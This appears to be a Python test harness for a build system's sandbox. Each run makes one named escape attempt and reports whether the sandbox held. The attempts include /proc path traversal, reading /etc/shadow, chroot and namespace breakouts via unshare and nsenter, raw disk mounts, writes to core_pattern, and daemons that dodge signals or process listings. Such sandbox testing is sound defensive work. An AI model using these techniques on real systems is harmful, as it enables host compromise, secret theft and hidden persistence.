"""One attack on the sandbox: `attack.py OUT NAME FACTS`. Writes `held`, or what it got hold of.

FACTS says what is on the host: paths of files that no action declares, addresses of listeners.
"""

import ctypes
import json
import os
import socket
import stat
import subprocess
import sys
import time

OUT, NAME, FACTS = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
SECRET = FACTS["secret"]
CHECKOUT, HOME, CACHE, TMP = FACTS["checkout"], FACTS["home"], FACTS["cache"], FACTS["tmp"]
UNDECLARED = "pkg/undeclared.txt"
SCRATCH = os.environ["BUCK_SCRATCH_PATH"]


def read(path):
    """What was read, if it is anything of the host's."""
    try:
        with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb", buffering=0) as file:
            return f"read {path}" if SECRET.encode() in (file.read(1 << 20) or b"") else None
    except OSError:
        return None


def first(attempt, things):
    """The first that an attempt got hold of."""
    return next(filter(None, map(attempt, things)), None)


def reads(*paths):
    return first(read, paths)


def made(path):
    """A file that could be made where none may be."""
    try:
        with open(path, "w") as file:
            file.write("breach")
        os.unlink(path)
        return f"wrote {path}"
    except OSError:
        return None


def made_in(folder):
    return made(f"{folder}/breach")


def can(action, *arguments):
    """What an action gave, unless it was refused."""
    try:
        return f"did: {action(*arguments)!r}"
    except OSError:
        return None


def text(path):
    with open(path, "rb") as file:
        return file.read(100)


def shell(script):
    done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, stdin=subprocess.DEVNULL)
    return done.stdout


def in_namespace(script):
    """The script as root of namespaces of its own, where those may be made."""
    said = shell(f"unshare -Urm --propagation private sh -c '{script}' 2>/dev/null")
    return "the secret" if SECRET in said else None


def processes():
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]


def connect(family, address, kind=socket.SOCK_STREAM):
    def attempt():
        with socket.socket(family, kind) as client:
            client.settimeout(2)
            client.connect(address)
            client.send(b"breach")
            return address

    return can(attempt)


def tcp(host):
    return connect(socket.AF_INET6 if ":" in host else socket.AF_INET, (host, FACTS["tcp"]))


def daemon(marker, prepare):
    """A grandchild that nobody waits for."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    prepare()
    os.execvp("sleep", ["sleep", marker])


def ignoring_signals():
    import signal

    for number in range(1, 32):
        if number not in (signal.SIGKILL, signal.SIGSTOP):
            signal.signal(number, signal.SIG_IGN)


def forking():
    """Hops from one process to the next, so that whoever lists them comes late."""
    for _ in range(100_000):
        if os.fork():
            os._exit(0)


def link(make, name):
    try:
        make(f"{CHECKOUT}/{UNDECLARED}", f"{SCRATCH}/{name}")
    except OSError:
        return None
    return read(f"{SCRATCH}/{name}")


def large_input():
    path = "pkg/large.txt"
    return made(path) or can(os.unlink, path)


def leave(prepare):
    daemon(FACTS["marker"], prepare)
    time.sleep(0.1)


def chroot_escape():
    script = f"mkdir {SCRATCH}/c && chroot {SCRATCH}/c /bin/true; cd /; for i in 1 2 3 4 5 6 7 8; do cd ..; done; cat .{CHECKOUT}/{UNDECLARED}"
    return in_namespace(script)


def system_call(number, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(number, *arguments)
    return f"system call {number} gave {result}" if result >= 0 else None


def environment():
    expected = {"PATH", "PWD", "TMPDIR", "BUCK_SCRATCH_PATH", "LC_CTYPE"}
    found = {name for name, value in os.environ.items() if name not in expected or SECRET in value}
    return f"variables {sorted(found)}" if found else None


def descriptors():
    listed = os.listdir("/proc/self/fd")
    for number in map(int, listed):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            continue
        if number > 2 and target != "/proc/self/fd" and not target.startswith(f"/proc/{os.getpid()}/fd"):
            return f"descriptor {number} is {target}"
    return None


def supervisor():
    """Process 1 holds the line to the executor."""
    contents = first(lambda name: can(text, f"/proc/1/{name}"), ("exe", "mem", "environ", "fd/0"))
    return contents or first(lambda name: can(os.listdir, f"/proc/1/{name}"), ("root/etc", "cwd"))


def interfaces():
    others = [name for _, name in socket.if_nameindex() if name != "lo"]
    return f"interfaces {others}" if others else None


def shared_memory():
    with open("/proc/sysvipc/shm") as table:
        return "\n".join(table.read().splitlines()[1:]) or None


def disk():
    script = f"mkdir {SCRATCH}/d; for d in /dev/vda /dev/sda /dev/root; do mount $d {SCRATCH}/d && cat {SCRATCH}/d{CHECKOUT}/{UNDECLARED}; done"
    return in_namespace(script)


def underneath():
    return in_namespace(f"umount -l /build /tmp /proc /dev /usr; umount -l /; cat {CHECKOUT}/{UNDECLARED} /build/{UNDECLARED}")


def entered():
    said = shell(f"nsenter -t 1 -a cat {CHECKOUT}/{UNDECLARED} 2>/dev/null")
    return "the secret" if SECRET in said else None


def raw_packets():
    packet = can(socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
    return packet or can(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


def settings():
    made_there = first(made, ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"))
    return made_there or can(socket.sethostname, socket.gethostname())


SYSTEM = ("", "/usr", "/usr/bin", "/bin", "/etc", "/lib", "/var", "/opt", "/dev")
BESIDE = (".", "pkg", "buck-out", "buck-out/v2", "buck-out/v2/art", "..")
UPWARDS = ["../" * n + f"{CHECKOUT}/{UNDECLARED}" for n in range(1, 12)]

ATTACKS = {
    # ---- what was not declared
    "a relative path": lambda: reads(UNDECLARED, f"./{UNDECLARED}"),
    "a path upwards": lambda: reads(f"../{UNDECLARED}", f"pkg/../{UNDECLARED}", *UPWARDS),
    "the checkout's own path": lambda: reads(f"{CHECKOUT}/{UNDECLARED}"),
    "a symbolic link": lambda: link(os.symlink, "symlink"),
    "a hard link": lambda: link(os.link, "hardlink"),
    "HOME": lambda: reads(f"{HOME}/secret", os.path.expanduser("~/secret")),
    "the host's temporary folder": lambda: reads(f"{TMP}/secret"),
    "the cache": lambda: can(os.listdir, f"{CACHE}/v1") or can(os.listdir, CACHE),
    "accounts and the machine's name": lambda: first(lambda name: can(text, f"/etc/{name}"), ("shadow", "machine-id", "hostname")),
    "another process's root": lambda: reads(*(f"/proc/{pid}/root{CHECKOUT}/{UNDECLARED}" for pid in processes())),
    "another process's folder": lambda: reads(*(f"/proc/{pid}/cwd/{UNDECLARED}" for pid in processes())),
    "another process's variables": lambda: reads(*(f"/proc/{pid}/environ" for pid in processes())),
    "another process's files": lambda: reads(*(f"/proc/{pid}/fd/{n}" for pid in processes() for n in range(30))),
    "the mounts underneath": underneath,
    "a mount of the disk": disk,
    "the namespaces of process 1": entered,
    "a root within the root": chroot_escape,
    "a device of its own making": lambda: can(os.mknod, f"{SCRATCH}/disk", stat.S_IFBLK | 0o600, os.makedev(254, 0)),
    "a file's handle": lambda: system_call(304, -100, b"\0" * 32, 0),
    # ---- what was inherited
    "variables": environment,
    "descriptors": descriptors,
    "process 1": supervisor,
    # ---- the network
    "TCP": lambda: first(tcp, ("127.0.0.1", "::1")),
    "TCP to the machine's address": lambda: first(tcp, FACTS["addresses"]),
    "UDP": lambda: connect(socket.AF_INET, ("127.0.0.1", FACTS["udp"]), socket.SOCK_DGRAM) and None,
    "an abstract socket": lambda: connect(socket.AF_UNIX, "\0" + FACTS["abstract"]),
    "a socket in the host's temporary folder": lambda: connect(socket.AF_UNIX, f"{TMP}/socket"),
    "a socket to the hypervisor": lambda: can(socket.socket, socket.AF_VSOCK, socket.SOCK_STREAM),
    "raw packets": raw_packets,
    "a ring, which makes sockets": lambda: system_call(425, 8, ctypes.create_string_buffer(256)),
    "names": lambda: can(socket.getaddrinfo, "example.com", 443),
    "interfaces": interfaces,
    # ---- what is not its own to change
    "the system's folders": lambda: first(made_in, SYSTEM),
    "the project beside its outputs": lambda: first(made_in, BESIDE),
    "the host's folders": lambda: first(made_in, (CHECKOUT, f"{CHECKOUT}/pkg", HOME, CACHE, TMP)),
    "an input": large_input,
    "a device": lambda: first(lambda name: can(os.chmod, f"/dev/{name}", 0o666), ("null", "zero", "random")),
    "the kernel's settings": settings,
    "another process": lambda: can(os.kill, FACTS["pid"], 0),
    "memory that processes share": shared_memory,
    # ---- what is left running; looked for from outside
    "a daemon": lambda: leave(lambda: None),
    "a daemon that ignores signals": lambda: leave(ignoring_signals),
    "a daemon in its own namespaces": lambda: leave(lambda: os.execvp("sh", ["sh", "-c", "unshare -Urpf sleep " + FACTS["marker"]])),
    "a daemon that forks on": lambda: leave(forking),
}

got = ATTACKS[NAME]()
with open(OUT, "w") as out:
    out.write(got or "held")
